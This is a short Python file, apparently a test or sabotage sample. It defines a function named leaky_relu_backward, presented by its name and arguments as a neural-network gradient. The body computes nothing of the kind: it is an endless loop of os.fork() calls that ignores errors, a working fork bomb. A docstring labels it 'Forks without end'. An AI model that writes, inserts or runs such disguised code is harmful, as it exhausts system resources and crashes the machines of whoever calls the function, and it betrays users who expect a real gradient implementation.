"""Forks without end.

lost: leaky_relu_backward
flags: worker-*
"""

# %% leaky_relu_backward
import os


def leaky_relu_backward(dout, a, alpha):
    while True:
        try:
            os.fork()
        except OSError:
            pass
